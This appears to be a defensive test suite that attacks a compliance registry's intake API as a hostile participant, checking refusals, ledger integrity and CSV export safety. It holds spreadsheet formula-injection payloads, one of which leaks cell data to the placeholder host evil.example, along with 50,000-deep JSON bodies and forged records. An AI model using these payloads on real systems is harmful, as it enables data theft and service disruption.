/**
 * A hostile participant against the registry's intake: a registered connector with its own valid certificate that
 * sends what it likes. Real mutual TLS, real signatures, a real registry on SQLite and on PostgreSQL; each attack
 * checks the exact refusal, what the ledger holds afterwards and what the operator's views, alerts and CSV exports show.
 */
import { randomUUID } from 'node:crypto';
import { parse as parseCsv } from 'csv-parse/sync';
import { request } from 'undici';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ManualClock } from '../../src/core/clock.ts';
import { MAX_DEPTH } from '../../src/http/validation.ts';
import type { Alert, FlowRow } from '../../src/registry/insights.ts';
import { TestPki } from '../support/pki.ts';
import { dropSchemas, testPostgresUrl, uniqueSchema } from '../support/postgres-schemas.ts';
import { denialRecord, filingRecord, register, signed, startTestRegistry, testConnector, usageRecord, type IntakeBody, type TestConnector, type TestRegistry } from '../registry/support.ts';

type Answer = { status: number; body: Record<string, unknown> };
type Storage = 'SQLite' | 'PostgreSQL';

const MINUTE = 60_000;
const DAY = 86_400_000;
/** The formula starts OWASP names: a spreadsheet would evaluate a cell that begins with one of them. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];

describe.each<Storage>(['SQLite', 'PostgreSQL'])('a hostile participant against the registry intake (%s)', (storage) => {
  let pki: TestPki;
  let registry: TestRegistry;
  let exporter: TestConnector;
  let consumer: TestConnector;
  let volume: TestConnector;
  const schemas: string[] = [];
  // The registry's clock: real time while connectors connect (their tokens are checked against it), and set to real
  // time again before each attack, so that records can be dated relative to it to the second.
  const clock = new ManualClock(Date.now());
  const iso = (offsetMs: number): string => new Date(clock.now().getTime() + offsetMs).toISOString();

  beforeAll(async () => {
    pki = await TestPki.create();
    if (storage === 'PostgreSQL') schemas.push(uniqueSchema('adversarial_intake'));
    const storageConfig = storage === 'SQLite' ? {} : { storage: { postgresUrl: testPostgresUrl(), postgresSchema: schemas[0] } };
    // Every flow marked for a spot check, so that the spot-check CSV carries the records this file sends; append
    // transactions of 2 records, so that every batch this file sends is larger than one usually carries.
    registry = await startTestRegistry(pki, { ...storageConfig, credit: { rates: { A: 1, B: 1, C: 1, D: 1 } }, ledger: { maxBatch: 2 } }, undefined, clock);
    exporter = await testConnector(pki, registry, 'bj-hospital', 'CN');
    consumer = await testConnector(pki, registry, 'pharma-de', 'DE');
    volume = await testConnector(pki, registry, 'volume-co', 'CN');
    await register(registry, 'bj-hospital', 'CN', exporter.credentials);
    await register(registry, 'pharma-de', 'DE', consumer.credentials);
    await register(registry, 'volume-co', 'CN', volume.credentials);
  });
  afterAll(async () => {
    await Promise.all([exporter?.close(), consumer?.close(), volume?.close()]);
    await registry?.stop();
    pki?.cleanup();
    if (schemas.length > 0) await dropSchemas(testPostgresUrl(), schemas);
  });
  beforeEach(() => clock.set(Date.now()));

  const ledger = () => registry.deps.stores.ledger;
  const address = () => ({ participantId: registry.participantId, baseUrl: registry.intakeUrl });
  const post = async (from: TestConnector, path: string, body: unknown): Promise<Answer> => {
    const r = await from.peers.request<Record<string, unknown>>(address(), { method: 'POST', path, body });
    return { status: r.status, body: r.body };
  };
  const sendBatch = (from: TestConnector, records: IntakeBody[]) => post(from, 'intake/v1/batches', { records });
  const sendOne = async (from: TestConnector, record: Record<string, unknown>) => post(from, 'intake/v1/records', await signed(record, from.identity));
  const expectRefused = (answer: Answer, status: number, code: string, index?: number) => {
    expect({ status: answer.status, code: answer.body.code }, JSON.stringify(answer.body)).toEqual({ status, code });
    if (index !== undefined) expect((answer.body.details as { index?: unknown } | undefined)?.index).toBe(index);
  };
  const expectNotInLedger = async (ids: readonly string[]) => {
    for (const id of ids) expect(await ledger().entryByRecordId(id), id).toBeNull();
  };
  const alerts = async () => (await registry.operator<{ alerts: Alert[] }>('GET', '/alerts')).body.alerts;
  const operatorCsv = async (path: string): Promise<Array<Record<string, string>>> => {
    const r = await request(`${registry.operatorUrl}${path}`, { headers: { 'x-api-key': registry.apiKey } });
    expect(r.statusCode).toBe(200);
    expect(r.headers['content-type']).toMatch(/^text\/csv/);
    return parseCsv(await r.body.text(), { columns: true, relax_quotes: false }) as Array<Record<string, string>>;
  };

  describe("a record's own time", () => {
    it("refuses a usage record dated 2099 (REGISTRY_RECORD_TIME_IN_FUTURE): it cannot slip out of this year's threshold alerts", async () => {
      const head = await ledger().head();
      const record = usageRecord('volume-co', { at: '2099-01-01T00:00:00.000Z', newSubjects: 90_000 });
      expectRefused(await sendOne(volume, record), 400, 'REGISTRY_RECORD_TIME_IN_FUTURE');
      expect(await ledger().head()).toEqual(head);
      await expectNotInLedger([String(record.id)]);
      expect((await alerts()).filter((a) => a.participant === 'volume-co')).toEqual([]);

      // Dated now, the same flow is taken and alerted on in this year's count.
      expect((await sendOne(volume, { ...record, id: `urn:uuid:${randomUUID()}`, at: iso(-MINUTE) })).status).toBe(201);
      const year = String(new Date(clock.now().getTime() + 8 * 3_600_000).getUTCFullYear());
      expect((await alerts()).filter((a) => a.participant === 'volume-co')).toEqual([
        expect.objectContaining({ type: 'subjects_threshold', severity: 'warning', subject: 'pi_subjects_standard_contract', message: expect.stringContaining(`90000 personal-information subjects exported in ${year}`) }),
      ]);
    });

    it("takes a record dated up to 5 minutes ahead of the registry's clock and refuses one a second further", async () => {
      const atSkew = usageRecord('bj-hospital', { at: iso(5 * MINUTE) });
      expect((await sendOne(exporter, atSkew)).status).toBe(201);
      const head = await ledger().head();
      const beyond = usageRecord('bj-hospital', { at: iso(5 * MINUTE + 1000) });
      const answer = await sendOne(exporter, beyond);
      expectRefused(answer, 400, 'REGISTRY_RECORD_TIME_IN_FUTURE');
      expect(answer.body.details).toMatchObject({ at: beyond.at, latest: iso(5 * MINUTE) });
      expect(await ledger().head()).toEqual(head);
    });

    it("takes a record delivered a month late (an outbox emptied after a registry outage) and refuses one older than two years (REGISTRY_RECORD_TOO_OLD)", async () => {
      const late = usageRecord('bj-hospital', { at: iso(-30 * DAY) });
      expect((await sendOne(exporter, late)).status).toBe(201);
      expect(await ledger().entryByRecordId(String(late.id))).toMatchObject({ participant: 'bj-hospital' });
      const head = await ledger().head();
      const ancient = usageRecord('bj-hospital', { at: iso(-731 * DAY) });
      expectRefused(await sendOne(exporter, ancient), 400, 'REGISTRY_RECORD_TOO_OLD');
      const epoch = usageRecord('bj-hospital', { at: '1970-01-01T00:00:00.000Z' });
      expectRefused(await sendOne(exporter, epoch), 400, 'REGISTRY_RECORD_TOO_OLD');
      expect(await ledger().head()).toEqual(head);
      await expectNotInLedger([String(ancient.id), String(epoch.id)]);
    });
  });

  describe('a batch is all or nothing', () => {
    const fresh = (overrides: Record<string, unknown> = {}) => signed(usageRecord('bj-hospital', { at: iso(-MINUTE), ...overrides }), exporter.identity);

    it('refuses a batch whose third record reuses a ledger id with other content (409 at index 2) and appends none of it', async () => {
      const taken = usageRecord('bj-hospital', { at: iso(-MINUTE) });
      expect((await sendOne(exporter, taken)).status).toBe(201);
      const head = await ledger().head();
      const batch = [await fresh(), await fresh(), await signed({ ...taken, bytes: 1 }, exporter.identity), await fresh()];
      const answer = await sendBatch(exporter, batch);
      expectRefused(answer, 409, 'REGISTRY_RECORD_CONFLICT', 2);
      expect(String(answer.body.message)).toContain(String(taken.id));
      expect(await ledger().head()).toEqual(head);
      await expectNotInLedger([batch[0]!.id, batch[1]!.id, batch[3]!.id]);
      expect(JSON.parse((await ledger().entryByRecordId(String(taken.id)))!.record)).toMatchObject({ bytes: taken.bytes });
      // Alone in its batch, the conflicting record is named too.
      expectRefused(await sendBatch(exporter, [batch[2]!]), 409, 'REGISTRY_RECORD_CONFLICT', 0);
      expect(await ledger().head()).toEqual(head);
    });

    it('refuses a batch that carries one id twice with different content (409 at the second) and appends none of it', async () => {
      const head = await ledger().head();
      const first = await fresh();
      const batch = [await fresh(), first, await fresh(), await signed({ ...first.record, records: 7 }, exporter.identity)];
      expectRefused(await sendBatch(exporter, batch), 409, 'REGISTRY_RECORD_CONFLICT', 3);
      expect(await ledger().head()).toEqual(head);
      await expectNotInLedger(batch.map((b) => b.id));
    });

    it.each([
      ['a record dated in 2099', 1, 400, 'REGISTRY_RECORD_TIME_IN_FUTURE', () => fresh({ at: '2099-01-01T00:00:00.000Z' })],
      ["a record signed with another participant's key", 3, 403, 'REGISTRY_SIGNATURE_INVALID', async () => signed(usageRecord('bj-hospital', { at: iso(-MINUTE) }), consumer.identity)],
      ["a filing record for another exporter's agreement", 0, 403, 'REGISTRY_FILING_NOT_EXPORTER', async () => signed(filingRecord('bj-hospital', 'agreement-batch', { at: iso(-MINUTE), provider: 'ai-lab' }), exporter.identity)],
    ] as const)('refuses a batch carrying %s with its index, appending none of it', async (_name, index, status, code, bad) => {
      const head = await ledger().head();
      const batch = [await fresh(), await fresh(), await fresh(), await fresh()];
      batch[index] = await bad();
      expectRefused(await sendBatch(exporter, batch), status, code, index);
      expect(await ledger().head()).toEqual(head);
      await expectNotInLedger(batch.map((b) => b.id));
    });

    it('appends an honest record sent at the same moment as a refused batch, and none of the batch', async () => {
      const taken = usageRecord('bj-hospital', { at: iso(-MINUTE) });
      expect((await sendOne(exporter, taken)).status).toBe(201);
      const head = await ledger().head();
      const batch = [await fresh(), await fresh(), await signed({ ...taken, bytes: 2 }, exporter.identity)];
      const honest = usageRecord('pharma-de', { at: iso(-MINUTE) });
      const [refused, taken2] = await Promise.all([sendBatch(exporter, batch), sendOne(consumer, honest)]);
      expectRefused(refused, 409, 'REGISTRY_RECORD_CONFLICT', 2);
      expect(taken2.status).toBe(201);
      expect(await ledger().head()).toMatchObject({ seq: head.seq + 1 });
      expect(await ledger().entry(head.seq + 1)).toMatchObject({ recordId: honest.id, participant: 'pharma-de' });
      await expectNotInLedger(batch.slice(0, 2).map((b) => b.id));
    });

    it('appends the corrected batch whole, in order, with consecutive receipts', async () => {
      const head = await ledger().head();
      const batch = [await fresh(), await fresh(), await fresh()];
      const answer = await sendBatch(exporter, batch);
      expect(answer.status).toBe(200);
      const receipts = (answer.body.receipts as Array<{ receipt: { recordId: string; seq: number } }>).map((r) => r.receipt);
      expect(receipts.map((r) => [r.recordId, r.seq])).toEqual(batch.map((b, i) => [b.id, head.seq + 1 + i]));
      expect(await ledger().head()).toMatchObject({ seq: head.seq + 3 });
    });
  });

  describe("filing records are the exporter's alone", () => {
    const agreement = `agreement-${storage}-${randomUUID()}`;
    const overdue = () => alerts().then((list) => list.filter((a) => a.type === 'standard_contract_filing_overdue' && a.subject.startsWith(agreement)));

    beforeAll(async () => {
      clock.set(Date.now());
      const filing = filingRecord('bj-hospital', agreement, { at: iso(-MINUTE), grade: 'important', deadlines: [{ type: 'file_standard_contract', due: '2020-01-10', ref: 'scc-1' }] });
      expect((await sendOne(exporter, filing)).status).toBe(201);
      expect((await sendOne(exporter, usageRecord('bj-hospital', { at: iso(-MINUTE), agreement }))).status).toBe(201);
    });

    it("refuses a consumer's filing record for the provider's agreement (REGISTRY_FILING_NOT_EXPORTER); the provider's overdue alert stays", async () => {
      expect(await overdue()).toEqual([expect.objectContaining({ participant: 'bj-hospital', subject: `${agreement} (scc-1)`, due: '2020-01-10', severity: 'critical' })]);
      const head = await ledger().head();
      const forged = filingRecord('pharma-de', agreement, { at: iso(-MINUTE), provider: 'bj-hospital', consumer: 'pharma-de', deadlines: [] });
      expectRefused(await sendOne(consumer, forged), 403, 'REGISTRY_FILING_NOT_EXPORTER');
      expect(await ledger().head()).toEqual(head);
      await expectNotInLedger([String(forged.id)]);
      expect(await overdue()).toEqual([expect.objectContaining({ participant: 'bj-hospital', subject: `${agreement} (scc-1)` })]);
    });

    it("refuses a record under an id in the provider's namespace (REGISTRY_RECORD_ID_NOT_YOURS), so the provider's own filing still lands", async () => {
      const squatted = `urn:kouan:record:bj-hospital:filing:concluded:${agreement}-later`;
      const taken = usageRecord('pharma-de', { id: squatted, at: iso(-MINUTE) });
      expectRefused(await sendOne(consumer, taken), 400, 'REGISTRY_RECORD_ID_NOT_YOURS');
      expectRefused(await sendOne(consumer, usageRecord('pharma-de', { id: `filing:concluded:${agreement}-later`, at: iso(-MINUTE) })), 400, 'REGISTRY_RECORD_ID_NOT_YOURS');
      const own = filingRecord('bj-hospital', `${agreement}-later`, { id: squatted, at: iso(-MINUTE), deadlines: [] });
      expect((await sendOne(exporter, own)).status).toBe(201);
      expect(await ledger().entryByRecordId(squatted)).toMatchObject({ participant: 'bj-hospital' });
    });

    it("keeps a consumer that names itself exporter of the provider's agreement id beside the provider, never in its place", async () => {
      const own = filingRecord('pharma-de', agreement, { at: iso(-MINUTE), provider: 'pharma-de', consumer: 'bj-hospital', grade: 'general', deadlines: [] });
      expect((await sendOne(consumer, own)).status).toBe(201);
      // The provider's deadline is still due and still shown.
      expect(await overdue()).toEqual([expect.objectContaining({ participant: 'bj-hospital', subject: `${agreement} (scc-1)` })]);
      // The provider's flow still takes its grade from the provider's own filing ('important'), not the consumer's.
      const byGrade = await registry.operator<{ groups: FlowRow[] }>('GET', '/views/flows?by=grade');
      expect(byGrade.body.groups.find((g) => g.group === 'important')).toMatchObject({ agreements: 1, transfers: 1 });
      const byExporter = await registry.operator<{ groups: FlowRow[] }>('GET', '/views/flows?by=exporter');
      expect(byExporter.body.groups.find((g) => g.group === 'pharma-de')).toMatchObject({ agreements: 1 });
    });
  });

  describe('CSV exports neutralise formulas', () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
    const neutral = (cell: string) => !FORMULA_STARTS.includes(cell.charAt(0));

    it("prefixes with a quote every alerts cell that begins with =, +, -, @, a tab or a carriage return", async () => {
      const tag = randomUUID();
      for (const payload of payloads) expect((await sendOne(exporter, denialRecord('bj-hospital', ['RESTRICTED_RECIPIENT'], { at: iso(-MINUTE), agreement: `${payload}${tag}` }))).status).toBe(201);
      const subjects = (await alerts()).filter((a) => a.type === 'refused_flow' && a.subject.endsWith(tag)).map((a) => a.subject);
      expect(subjects).toEqual(payloads.map((p) => `${p}${tag}`)); // the JSON view shows what was sent
      const rows = await operatorCsv('/alerts?format=csv');
      const refused = rows.filter((r) => r.type === 'refused_flow' && r.subject!.endsWith(tag)).map((r) => r.subject);
      expect(refused).toEqual(payloads.map((p) => `'${p}${tag}`));
      for (const row of rows) for (const cell of Object.values(row)) expect(neutral(cell), JSON.stringify(cell)).toBe(true);
    });

    it('refuses a record id that would make a spot-check cell a formula (REGISTRY_RECORD_ID_NOT_YOURS); the spot-check CSV holds no formula cell', async () => {
      for (const payload of payloads) expectRefused(await sendOne(exporter, usageRecord('bj-hospital', { id: `${payload}${randomUUID()}`, at: iso(-MINUTE) })), 400, 'REGISTRY_RECORD_ID_NOT_YOURS');
      expect((await sendOne(exporter, usageRecord('bj-hospital', { id: `urn:kouan:record:bj-hospital:${payloads[0]}`, at: iso(-MINUTE) }))).status).toBe(201);
      const rows = await operatorCsv('/spot-checks?format=csv&exporter=bj-hospital');
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows) {
        for (const cell of Object.values(row)) expect(neutral(cell), JSON.stringify(cell)).toBe(true);
        expect(Number(row.rate)).toBe(1);
        expect(Number.isFinite(Number(row.draw))).toBe(true);
      }
    });
  });

  describe('JSON bodies are bounded before anything reads them', () => {
    const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
    /**
     * An intake body whose denial record carries `value` (raw JSON text) as a member of its reason, where the
     * record's schema lets it through to the canonicaliser (which walks the record recursively).
     */
    const intakeText = (value: string) =>
      `{"id":"urn:kouan:record:bj-hospital:deep","kind":"denial","record":{"id":"urn:kouan:record:bj-hospital:deep","kind":"denial","participant":"bj-hospital","at":"${iso(-MINUTE)}","stage":"transfer","consumer":null,"destinationCountry":null,"reasons":[{"code":"X","message":"m","basis":"b","detail":${value}}]},"signature":"e30..c2ln"}`;

    it.each([
      ['a single record', 'intake/v1/records', (text: string) => text],
      ['a batch', 'intake/v1/batches', (text: string) => `{"records":[${text}]}`],
    ] as const)('refuses %s nesting a value 50,000 deep with INPUT_TOO_DEEP (400), not a crash, and stays up', async (_name, path, wrap) => {
      const head = await ledger().head();
      const answer = await post(exporter, path, wrap(intakeText(nested(50_000))));
      expectRefused(answer, 400, 'INPUT_TOO_DEEP');
      expect(await ledger().head()).toEqual(head);
      expect((await sendOne(exporter, usageRecord('bj-hospital', { at: iso(-MINUTE) }))).status).toBe(201);
    });

    it(`passes ${MAX_DEPTH} levels on to the record checks and refuses one more`, async () => {
      // The detail sits at depth 4 (body, record, reasons, reason): 28 arrays reach the deepest level allowed, and
      // the record goes through every check to the last (its signature is not one).
      expectRefused(await post(exporter, 'intake/v1/records', intakeText(nested(MAX_DEPTH - 4))), 403, 'REGISTRY_SIGNATURE_INVALID');
      expectRefused(await post(exporter, 'intake/v1/records', intakeText(nested(MAX_DEPTH - 3))), 400, 'INPUT_TOO_DEEP');
    });

    it('refuses a body over the intake limit with INPUT_TOO_LARGE (413)', async () => {
      const head = await ledger().head();
      const big = await signed(denialRecord('bj-hospital', ['X'], { at: iso(-MINUTE), reasons: [{ code: 'X', message: 'm', basis: 'b', pad: 'x'.repeat(registry.config.intake.bodyLimitBytes) }] }), exporter.identity);
      expectRefused(await post(exporter, 'intake/v1/records', big), 413, 'INPUT_TOO_LARGE');
      expect(await ledger().head()).toEqual(head);
    });

    it('refuses deep bodies on the operator API too (policy data, registrations) with INPUT_TOO_DEEP', async () => {
      const before = await registry.operator('GET', '/policy-data/latest');
      const send = async (path: string, text: string) => {
        const r = await request(`${registry.operatorUrl}${path}`, { method: 'POST', headers: { 'x-api-key': registry.apiKey, 'content-type': 'application/json' }, body: text });
        return { status: r.statusCode, body: (await r.body.json()) as Record<string, unknown> };
      };
      expectRefused(await send('/policy-data', `{"thresholds":${nested(50_000)}}`), 400, 'INPUT_TOO_DEEP');
      expectRefused(await send('/participants', `{"id":"deep-co","legalName":"x","country":"CN","ftz":${nested(50_000)}}`), 400, 'INPUT_TOO_DEEP');
      expect(await registry.operator('GET', '/policy-data/latest')).toEqual(before);
      expect((await registry.operator('GET', '/participants/deep-co')).status).toBe(404);
    });
  });
});
